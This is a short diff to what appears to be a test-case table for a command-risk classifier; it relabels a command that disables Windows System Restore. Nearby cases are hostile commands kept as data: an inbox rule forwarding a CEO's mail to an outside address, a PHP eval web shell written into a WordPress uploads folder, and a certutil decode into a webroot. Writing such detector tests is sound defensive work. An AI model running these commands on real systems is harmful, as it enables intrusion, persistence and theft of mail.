@@ -96,7 +96,7 @@ CASES = [
     ("New-InboxRule -Mailbox ceo@corp.example -Name s -ForwardTo x@proton.me", "powershell", C),
     ("New-InboxRule -Mailbox ceo@corp.example -Name s -MoveToFolder Archive", "powershell", M),
     ("Get-MgDirectoryRoleMember -DirectoryRoleId 62e90394", "powershell", S),
-    ('wmic /namespace:\\\\root\\default path SystemRestore call Disable "C:\\"', "cmd", B),
+    ('wmic /namespace:\\\\root\\default path SystemRestore call Disable "C:\\"', "cmd", C),
     # web shells, files written by decoders/SQL, WebClient downloads that are run
     ("echo '<?php @eval($_POST[x]);?>' > /var/www/html/wp-content/uploads/c.php", "bash", C),
     ("certutil -decode s.txt C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx", "cmd", C),
